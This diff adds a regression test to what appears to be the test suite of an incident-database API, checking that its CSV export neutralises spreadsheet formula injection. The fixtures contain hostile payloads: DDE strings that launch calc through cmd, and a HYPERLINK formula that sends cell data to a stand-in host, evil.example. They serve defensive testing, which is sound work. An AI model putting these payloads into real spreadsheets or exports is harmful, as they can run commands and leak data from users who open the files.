@@ -198,4 +198,48 @@ describe('exports', () => {
     expect(parse(readFileSync(out('i.csv')), { columns: true })).toHaveLength(4);
     expect(readFileSync(out('e.ndjson'), 'utf8').trimEnd().split('\n')).toHaveLength(await countEvents(t.tdb.app.db));
   });
+
+  // Issue 16 item 1: cells a spreadsheet would run (OWASP's rule) come out as text with a leading
+  // apostrophe; negative numbers stay numbers. Runs last: it adds an incident the counts above omit.
+  it('neutralise spreadsheet formulas in every text cell of the CSV', async () => {
+    const group = `=2+5+cmd|' /C calc'!A0`;
+    const hostile = {
+      summary: '=1+2',
+      place: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+      target: `@SUM(1+1)*cmd|' /C calc'!A0`,
+    };
+    await post('/v1/groups', { name: group }, t.keys.analyst);
+    const { id } = await post(
+      '/v1/incidents',
+      {
+        occurredAt: '2019-05-05',
+        location: { country: 'PK', admin1: '+Plus', place: hostile.place, lat: -33.5, lon: -70.25 },
+        type: 'bombing',
+        target: hostile.target,
+        summary: hostile.summary,
+        sourceIds: [gtdSourceId],
+      },
+      t.keys.reporter,
+    );
+    await post(
+      `/v1/incidents/${id}/claims`,
+      { group, claimedAt: '2019-05-06T00:00:00Z', sourceId: gtdSourceId, channel: 'statement' },
+      t.keys.reporter,
+    );
+    await loadIncidents();
+    const res = await text('/v1/exports/incidents.csv');
+    expect(res.status).toBe(200);
+    const rows: string[][] = parse(res.body);
+    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+@\t\r]|^-(?!\d)/);
+    const cols: Array<Record<string, string>> = parse(res.body, { columns: true });
+    expect(cols.find((l) => l.incident_id === id)).toMatchObject({
+      summary: `'${hostile.summary}`,
+      place: `'${hostile.place}`,
+      target: `'${hostile.target}`,
+      admin1: "'+Plus",
+      claimed_by: `'${group}`,
+      lat: '-33.5',
+      lon: '-70.25',
+    });
+  });
 });
